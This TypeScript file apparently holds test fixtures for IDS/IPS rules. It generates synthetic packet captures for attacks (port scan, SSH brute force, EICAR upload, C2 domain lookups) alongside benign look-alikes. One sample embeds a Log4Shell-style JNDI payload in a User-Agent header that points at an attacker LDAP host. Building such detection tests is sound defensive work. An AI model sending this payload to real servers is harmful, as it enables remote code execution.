/**
 * The malicious traffic samples and their benign look-alikes, one case each (the shape of OISF/suricata-verify: a
 * capture, and the alerts it must produce). The captures are written by the generator in pcap.ts, never
 * downloaded. Each attack comes from ATTACKER; each look-alike from NEIGHBOUR on the same path to the same server,
 * and must produce no alert at all.
 */
import { Capture, clientHello, dnsAnswer, dnsQuery, type Endpoint } from "./pcap";

export const ATTACKER = "203.0.113.66";
export const NEIGHBOUR = "198.51.100.20";
/** The dev site's NAS (a port-forward target in the servers segment). */
export const SERVER = "10.50.0.10";

export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

export interface Sample {
  name: string;
  /** What the attack looks like on the wire. */
  attack: (c: Capture) => void;
  /** Traffic on the same path that resembles it and is harmless. */
  benign: (c: Capture) => void;
  /** The rule that must fire on the attack, and whether it is a drop rule (blocked inline in IPS mode). */
  sid: number;
  drops: boolean;
}

const at = (ip: string, port: number): Endpoint => ({ ip, port });

function http(c: Capture, from: string, port: number, request: string): void {
  c.session(at(from, port), at(SERVER, 80), [
    [request, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok"],
  ]);
}

function get(path: string, userAgent: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: nas.example.net\r\nUser-Agent: ${userAgent}\r\nAccept: */*\r\n\r\n`;
}

function post(body: string): string {
  return `POST /upload HTTP/1.1\r\nHost: nas.example.net\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}

/** The JNDI lookup sample's request from ATTACKER's port `port` (a flow of its own for each port). */
export function jndiLookup(c: Capture, port: number): void {
  http(c, ATTACKER, port, get("/", "${jndi:ldap://203.0.113.66:1389/Exploit}"));
}

function ssh(c: Capture, from: string, port: number): void {
  c.session(at(from, port), at(SERVER, 22), [["SSH-2.0-OpenSSH_9.2p1\r\n", "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"]]);
}

function lookup(c: Capture, from: string, name: string, id: number): void {
  c.udp(at(from, 40_000 + id), at(SERVER, 53), dnsQuery(name, id));
  c.udp(at(SERVER, 53), at(from, 40_000 + id), dnsAnswer(name, id, "192.0.2.80"));
}

export const SAMPLES: Sample[] = [
  {
    name: "port scan",
    attack: (c) => {
      for (let p = 20; p < 60; p++) c.probe(at(ATTACKER, 41_000), at(SERVER, p));
    },
    // A client opening a handful of connections to one service.
    benign: (c) => {
      for (let i = 0; i < 5; i++) c.session(at(NEIGHBOUR, 42_000 + i), at(SERVER, 443), [["hello", "world"]]);
    },
    sid: 9100001,
    drops: false,
  },
  {
    name: "SSH brute-force burst",
    attack: (c) => {
      for (let i = 0; i < 12; i++) ssh(c, ATTACKER, 43_000 + i);
    },
    // An administrator logging in twice.
    benign: (c) => {
      for (let i = 0; i < 2; i++) ssh(c, NEIGHBOUR, 43_000 + i);
    },
    sid: 9100002,
    drops: false,
  },
  {
    name: "JNDI lookup in HTTP",
    attack: (c) => jndiLookup(c, 44_000),
    // A page about JNDI, requested by an ordinary browser.
    benign: (c) => http(c, NEIGHBOUR, 44_000, get("/docs/jndi-lookup-guide.html", "Mozilla/5.0 (jndi reader)")),
    sid: 9100003,
    drops: true,
  },
  {
    name: "EICAR over HTTP",
    attack: (c) => http(c, ATTACKER, 45_000, post(EICAR)),
    // A text that names the test file without being it.
    benign: (c) => http(c, NEIGHBOUR, 45_000, post("notes: EICAR-STANDARD-ANTIVIRUS-TEST-FILE is a test string\n")),
    sid: 9100004,
    drops: true,
  },
  {
    name: "lookup of a blocklisted C2 domain",
    attack: (c) => lookup(c, ATTACKER, "update.evil-c2.example", 0x4242),
    // A name that ends in the same letters but is another domain.
    benign: (c) => lookup(c, NEIGHBOUR, "update.notevil-c2.example", 0x4343),
    sid: 9100005,
    drops: true,
  },
  {
    name: "TLS to a known-bad server name",
    attack: (c) => c.session(at(ATTACKER, 46_000), at(SERVER, 443), [[clientHello("panel.evil-c2.example"), ""]]),
    // The same name under another parent domain.
    benign: (c) => c.session(at(NEIGHBOUR, 46_000), at(SERVER, 443), [[clientHello("panel.evil-c2.example.org"), ""]]),
    sid: 9100006,
    drops: true,
  },
];
